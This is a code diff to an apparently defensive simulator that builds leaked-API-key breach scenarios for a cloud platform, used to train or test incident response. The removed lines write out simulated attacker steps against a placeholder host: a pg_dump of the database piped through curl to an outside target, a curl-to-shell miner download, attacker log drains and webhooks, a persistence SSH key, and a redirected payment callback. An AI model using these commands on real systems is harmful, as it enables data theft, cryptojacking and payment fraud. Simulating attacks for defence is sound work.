@@ -1,26 +1,30 @@
-"""What happened to the company: nothing (`quiet`), or an attacker came in with the leaked key (`breach`)."""
+"""What happened to the company between the leak and the present, and how its people stand."""
 
 from __future__ import annotations
 
 from collections.abc import Callable
-from datetime import datetime, timedelta
+from typing import TypeAlias
 
 from herotui.errors import WrongUse
-from herotui.simulator.changes import emit, let_in, restart, run, set_config
-from herotui.simulator.company import Plan, authorize, found, ssh_key
+from herotui.simulator.attack import ADDRESS, Attack
+from herotui.simulator.bills import send_bills
+from herotui.simulator.company import Staff, found
+from herotui.simulator.corporation import incorporate
+from herotui.simulator.course import Script, caller, play
 from herotui.simulator.estate import Estate, settle
 from herotui.simulator.mint import Mint
-from herotui.simulator.people import POOL_SIZE, Client
-from herotui.simulator.portfolio import build_apps
-from herotui.simulator.things import App, Drain, Webhook
+from herotui.simulator.people import POOL_SIZE
+from herotui.simulator.portfolio import build_apps, day_goes_on
 from herotui.simulator.timeline import Clock
-from herotui.simulator.views import show_dyno
+from herotui.simulator.variants import colleague_responds, hostile_size, hostile_text, narrow_leak, single_sign_on
 from herotui.simulator.world import World
 
-ATTACKER_HOST = "kali-vps-7"
-ATTACKER_MAIL = "ops.backup@mailbox.example"
-ATTACKER_SITE = "cdn-metrics.example"
+Scripts: TypeAlias = dict[str, Script]
+OWNERS_ADDRESS = "198.51.100.10"
 REQUESTS_MADE = 1900
+"""By the attacker, of late: most of them only read."""
+AIMS = (0, 2, 5, 7)
+"""The attacker's aims, by their place among the apps."""
 
 
 def build(*, apps: int, seed: int, scenario: str, clock: Clock, estate: Estate | None = None) -> World:
@@ -37,81 +41,96 @@ def build(*, apps: int, seed: int, scenario: str, clock: Clock, estate: Estate |
         settle(world, staff, estate)
     else:
         build_apps(world, staff, apps)
-    world.mint = Mint(f"{seed}:{scenario}")
-    SCENARIOS[scenario](world)
+        send_bills(world)
+    scripts = {"day": day_goes_on(world, staff)} | SCENARIOS[scenario](world, staff)
+    play(world, seed, scripts)
+    for app in world.apps.values():
+        app.logs.sort(key=lambda line: line.at)
     world.mint = Mint(f"{seed}:later")
     clock.run()
     return world
 
 
-def quiet(world: World) -> None:
+def quiet(world: World, staff: Staff) -> Scripts:
     """The key leaked, and nobody used it."""
+    return {}
 
 
-def breach(world: World) -> None:
-    """Within three hours of the leak the attacker made itself at home."""
-    apps = list(world.apps.values())
-    first, second, third = (apps[number % len(apps)] for number in (0, 2, 5))
-    _stay_in(world)
-    _listen(world, first)
-    _use(world, second)
-    let_in(world, first, world.owner, world.meet(ATTACKER_MAIL), at=_after(world, 41))
-    _redirect(world, third)
+def breach(world: World, staff: Staff) -> Scripts:
+    """For some hours after the leak the attacker made itself at home."""
+    attack = _attack(world)
+    return {
+        "stay": attack.stay(),
+        "listen": attack.listen(),
+        "let in": attack.let_in(),
+        "use": attack.use(),
+        "redirect": attack.redirect(),
+        "carry off": attack.carry_off(),
+    }
+
+
+def narrow(world: World, staff: Staff) -> Scripts:
+    """The leaked key has the scope `read`: the attacker looked at what it could, and left no trace but the requests."""
+    narrow_leak(world, "read")
+    _attack(world)
+    return {}
+
+
+def team(world: World, staff: Staff) -> Scripts:
+    """The attacker works on the teams: keys that act for them, people in them, the apps that they share."""
+    attack = _attack(world)
+    return {"stay": attack.stay(), "take over": attack.take_over(), "let in": attack.let_in(), "use": attack.use()}
+
+
+def enterprise(world: World, staff: Staff) -> Scripts:
+    """A breach of a company with an enterprise account: its audit trail has the attacker's address."""
+    incorporate(world, staff)
+    attack = _attack(world)
+    return breach(world, staff) | {"take over": attack.take_over(), "open": attack.open_space()}
+
+
+def stranger(world: World, staff: Staff) -> Scripts:
+    """A breach; the responder's key belongs to a colleague of the leaked key's owner."""
+    colleague_responds(world)
+    return breach(world, staff)
+
+
+def dead(world: World, staff: Staff) -> Scripts:
+    """The owner has revoked the leaked key already, but the attacker had minted before that."""
+    return breach(world, staff) | {"owner": _revoke(world)}
+
+
+def sso(world: World, staff: Staff) -> Scripts:
+    """A breach; the owner logs in through an identity provider, and can't make direct authorizations."""
+    single_sign_on(world)
+    return breach(world, staff)
+
+
+def hostile(world: World, staff: Staff) -> Scripts:
+    """A breach, after which names and values are as an attacker would choose them to harm whoever looks."""
+    return breach(world, staff) | {"deface": _deface(world)}
+
+
+SCENARIOS: dict[str, Callable[[World, Staff], Scripts]] = {
+    scenario.__name__: scenario for scenario in (breach, quiet, narrow, team, enterprise, stranger, dead, sso, hostile)
+}
+
+
+def _attack(world: World) -> Attack:
+    """The attacker, who has asked many questions already."""
     world.owner.pool.left = POOL_SIZE - REQUESTS_MADE
+    apps = list(world.apps.values())
+    return Attack(world, caller(world, world.leaked_key, ADDRESS), [apps[aim % len(apps)] for aim in AIMS])
 
 
-SCENARIOS: dict[str, Callable[[World], None]] = {"breach": breach, "quiet": quiet}
+def _revoke(world: World) -> Script:
+    """The owner's deed, with another key."""
+    by = caller(world, world.responder_key, OWNERS_ADDRESS)
+    yield 130
+    by.ask(f"DELETE /oauth/authorizations/{world.tokens[world.leaked_key].id}")
 
 
-def _after(world: World, minutes: int) -> datetime:
-    """A moment after the leak; the leak is at least 280 minutes old."""
-    return world.leaked_at + timedelta(minutes=minutes, seconds=world.mint.number(0, 59))
-
-
-def _stay_in(world: World) -> None:
-    """What survives the leaked key: a login, an inconspicuous key, an SSH key, an OAuth client."""
-    mint, owner = world.mint, world.owner
-    login = Plan("Heroku CLI login from {host}", ("global",), 0, lasts_days=30, session=True)
-    for plan, minutes in ((login, 14), (Plan("github-actions", ("global",), 0), 22)):
-        at = _after(world, minutes)
-        authorize(world, mint, owner, plan, at, ATTACKER_HOST).by_attacker = True
-    key = ssh_key(mint, f"root@{ATTACKER_HOST}", _after(world, 25))
-    owner.keys[key.id] = key
-    at = _after(world, 31)
-    client = Client(mint.uuid(), "Deploy helper", f"https://{ATTACKER_SITE}/oauth", mint.uuid(), owner, at, at)
-    world.clients[client.id] = client
-
-
-def _listen(world: World, app: App) -> None:
-    """A drain and a webhook: logs and events go out."""
-    mint, at, later = world.mint, _after(world, 36), _after(world, 38)
-    drain = Drain(mint.uuid(), f"https://logs.{ATTACKER_SITE}/ingest/{mint.hex(8)}", f"d.{mint.uuid()}", at, at)
-    app.drains[drain.id] = drain
-    include = ["api:release", "api:dyno", "api:collaborator"]
-    hook = Webhook(mint.uuid(), f"https://hooks.{ATTACKER_SITE}/in", include, "notify", later, later)
-    app.webhooks[hook.id] = hook
-
-
-def _use(world: World, app: App) -> None:
-    """One-off dynos, one of them still running, and a worker scaled up to mine."""
-    for minutes, command in (
-        (52, "env"),
-        (55, "bash"),
-        (63, "bash -c 'pg_dump $DATABASE_URL | gzip | curl -T - $OUT'"),
-    ):
-        at = _after(world, minutes)
-        dyno = run(world, app, command, "Standard-1X", at=at)
-        emit(world, app, world.owner, "api:dyno", "create", show_dyno(app, dyno), at=at)
-        del app.dynos[dyno.id]
-    started = _after(world, 71)
-    command = f"bash -c 'curl -s https://{ATTACKER_SITE}/m.sh | sh'"
-    run(world, app, command, "Performance-L", at=started)
-    worker = next(process for process in app.formation.values() if process.type == "worker")
-    worker.quantity, worker.size, worker.updated_at = 6, "Performance-L", _after(world, 74)
-    restart(world, app, at=worker.updated_at)
-
-
-def _redirect(world: World, app: App) -> None:
-    """A config change that looks like the owner's."""
-    url = f"https://relay.{ATTACKER_SITE}/callback"
-    set_config(world, app, world.owner, {"PAYMENT_CALLBACK_URL": url}, at=_after(world, 96))
+def _deface(world: World) -> Script:
+    yield 150
+    hostile_text(world)
+    hostile_size(world)
